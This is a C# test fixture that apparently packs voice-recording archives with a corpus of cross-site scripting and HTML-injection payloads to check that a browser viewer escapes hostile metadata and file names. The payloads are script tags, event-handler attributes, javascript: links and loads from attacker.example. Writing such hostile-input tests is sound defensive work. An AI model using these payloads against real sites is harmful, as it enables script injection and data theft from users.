using VoiceLake.Tests.Silver;
using VoiceLake.Tests.Support;

namespace VoiceLake.Conformance.Browser;

/// <summary>The samples, and beside them archives in which everything that a stranger writes is an attack on a browser.</summary>
internal static class HostileCorpus
{
    /// <summary>What is written wherever there is room for it; each calls alert, or the network, or breaks out of what it may be put into.</summary>
    public static IReadOnlyList<string> Injections { get; } =
    [
        "<script>alert('script')</script>",
        "<img src=x onerror=alert('image')>",
        "<svg onload=alert('svg')>",
        "\"><script>alert('attribute')</script>",
        "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
        "</title></style></textarea></script><script>alert('closed')</script>",
        "javascript:alert('address')",
        "[a link](javascript:alert('markdown'))",
        "![a picture](http://attacker.example/picture.png)",
        "<iframe src=http://attacker.example/></iframe>",
        "<link rel=stylesheet href=http://attacker.example/style.css>",
        "<base href=http://attacker.example/>",
        "<meta http-equiv=refresh content='0;url=http://attacker.example/'>",
        "<style>@import 'http://attacker.example/style.css';</style>",
        "<a href=\"javascript:alert('link')\">here</a>",
        "<form action=http://attacker.example/><input autofocus onfocus=alert('form')>",
        "<object data=\"data:text/html,<script>alert('object')</script>\"></object>",
        "<details open ontoggle=alert('toggle')>",
        "&lt;script&gt;alert('twice')&lt;/script&gt;",
        "<!--<img title=\"--><img src=x onerror=alert('comment')>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('mutation')>",
        "$\\href{javascript:alert('formula')}{x}$",
        "\u202E<script>alert('reversed')</script>",
    ];

    public static void Write(string folder)
    {
        foreach (var sample in Directory.EnumerateFiles(Repository.PathOf("data-samples"), "*.tgz"))
        {
            File.Copy(sample, Path.Combine(folder, Path.GetFileName(sample)));
        }

        for (var index = 0; index < Injections.Count; index++)
        {
            var text = Injections[index];
            // A slash would be a folder.
            var name = $"{text.Replace('/', '_').Replace('\\', '_')}-201003{index + 1:00}-abc";
            var archive = new ArchiveBuilder(name)
                .Text("etc/README", $"User Name:{text}\n\nSpeaker Characteristics:\n\nGender: {text}\nAge Range: {text}\nLanguage: {text}\nPronunciation dialect: {text}\n{text}: {text}\n\nRecording Information:\n\nMicrophone make: {text}\nOS: {text}\n")
                .Text("etc/PROMPTS", $"{name}/mfc/a0001 {text}\n{name}/mfc/{text} WORDS\n{text}\n")
                .Text("etc/prompts-original", $"a0001 {text}\n{text}\n")
                .Clip("wav/a0001.wav", Wav.Tone(1.5, frequency: 150 + (10 * index)))
                .Clip($"wav/{text.Replace('/', '_')}.wav", Wav.Tone(1.2, frequency: 200 + (10 * index)))
                .Clip($"wav/broken {text.Replace('/', '_')}.wav", "no sound"u8.ToArray());
            File.WriteAllBytes(Path.Combine(folder, $"{name}.tgz"), archive.Tgz());
        }
    }
}
